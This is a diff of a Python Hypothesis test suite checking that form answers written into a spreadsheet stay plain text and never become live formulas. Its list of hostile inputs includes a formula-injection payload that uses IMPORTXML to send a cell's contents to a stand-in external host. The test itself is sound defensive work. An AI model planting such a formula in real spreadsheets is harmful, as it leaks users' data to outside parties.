@@ -3,12 +3,13 @@
 from __future__ import annotations
 
 import json
+from dataclasses import dataclass
 from datetime import timedelta
 from pathlib import Path
 
 import pandas as pd
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, Phase, given, settings
 from hypothesis import strategies as st
 
 from connectors.change_set import diff
@@ -33,10 +34,12 @@ from tests.pipeline.office_factory import (
 )
 
 FORMULA = '=IMPORTXML("http://contoh.example/?"&A1;"//a")'
+LONG = "50,000 characters"
+"""Stands for so many, so that an example that fails can be read."""
 HOSTILE = (
     "",
     " ",
-    "x" * 50_000,
+    LONG,
     "😀👩‍👩‍👧 Siti",
     "\u202egnirts desrever \u0634\u0631\u0643\u0629",
     FORMULA,
@@ -82,30 +85,43 @@ RESPONSES = st.fixed_dictionaries(
 )
 
 
-@pytest.fixture(scope="session")
-def stood(
-    drafted_original: Path, tmp_path_factory: pytest.TempPathFactory
-) -> tuple[Settings, Snapshot]:
+@dataclass(frozen=True)
+class Stood:
     """A drafted week's settings and spreadsheet."""
+
+    settings: Settings
+    snapshot: Snapshot
+
+    def __repr__(self) -> str:
+        """Say little: Hypothesis prints it with each example that fails."""
+        return "Stood"
+
+
+@pytest.fixture(scope="session")
+def stood(drafted_original: Path, tmp_path_factory: pytest.TempPathFactory) -> Stood:
     folder = copy_office(drafted_original, tmp_path_factory.mktemp("stood"))
     with open_folder(folder) as office:
-        return office.settings, office.look()
+        return Stood(office.settings, office.look())
 
 
-@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@settings(
+    max_examples=8,
+    deadline=None,
+    phases=[Phase.explicit, Phase.reuse, Phase.generate],
+    suppress_health_check=[HealthCheck.too_slow],
+)
 @given(RESPONSES)
 def test_each_response_is_somewhere_and_nothing_comes_alive(
-    stood: tuple[Settings, Snapshot], given_answers: dict[Form, list[dict[str, list[str]]]]
+    stood: Stood, given_answers: dict[Form, list[dict[str, list[str]]]]
 ) -> None:
-    office, snapshot = stood
-    taken = {form: an_intake(form, rows, office) for form, rows in given_answers.items()}
-    book = write_book(office, taken, snapshot, at(DRAFTED), ())
+    taken = {form: an_intake(form, rows, stood.settings) for form, rows in given_answers.items()}
+    book = write_book(stood.settings, taken, stood.snapshot, at(DRAFTED), ())
     assert book.errors == ()
     for form, found in taken.items():
         assert set(found.responses[c.CODE]) <= whereabouts(form, book)
-    batch = json.dumps(diff(snapshot, book.tabs).requests, ensure_ascii=False)
-    assert "formulaValue" not in batch
-    assert batch.encode("utf-8"), "no half of a surrogate pair is sent"
+    batch = diff(stood.snapshot, book.tabs).requests
+    assert "formulaValue" not in names_in(batch)
+    assert json.dumps(batch, ensure_ascii=False).encode("utf-8"), "half a character is not sent"
 
 
 def an_intake(form: Form, rows: list[dict[str, list[str]]], office: Settings) -> Intake:
@@ -115,7 +131,7 @@ def an_intake(form: Form, rows: list[dict[str, list[str]]], office: Settings) ->
     for number, answers in enumerate(rows):
         moment = (at(DRAFTED) + timedelta(minutes=number)).isoformat()
         given_ = {
-            ids[key]: {"textAnswers": {"answers": [{"value": v} for v in values]}}
+            ids[key]: {"textAnswers": {"answers": [{"value": spelt_out(v)} for v in values]}}
             for key, values in answers.items()
         }
         payload = {
@@ -127,6 +143,19 @@ def an_intake(form: Form, rows: list[dict[str, list[str]]], office: Settings) ->
         responses.append(RawResponse.of(payload))
     frame = responses_frame(responses, questionnaires(office.clinic)[form], ids)
     return Intake(form, frame, Recorded(len(rows), len(rows), 0, 0), full=True)
+
+
+def names_in(data: object) -> set[str]:
+    """The names of all members of JSON data."""
+    if isinstance(data, dict):
+        return {*data}.union(*(names_in(value) for value in data.values()))
+    if isinstance(data, list):
+        return set().union(*(names_in(value) for value in data))
+    return set()
+
+
+def spelt_out(text: str) -> str:
+    return "x" * 50_000 if text == LONG else text
 
 
 def whereabouts(form: Form, book: Book) -> set[str]:
@@ -149,7 +178,7 @@ def codes(book: Book, tab: Tab) -> set[str]:
 
 
 def test_hostile_answers_through_the_form_stay_text(drafted: OpenOffice) -> None:
-    texts = [text for text in HOSTILE if text.strip() and text.isprintable()]
+    texts = [spelt_out(text) for text in HOSTILE if text.strip() and text.isprintable()]
     for number, text in enumerate(texts):
         phone = f"0812-3000-{number:04}"
         drafted.register(name=text, business=text, problem=text, invitation_code=text, phone=phone)
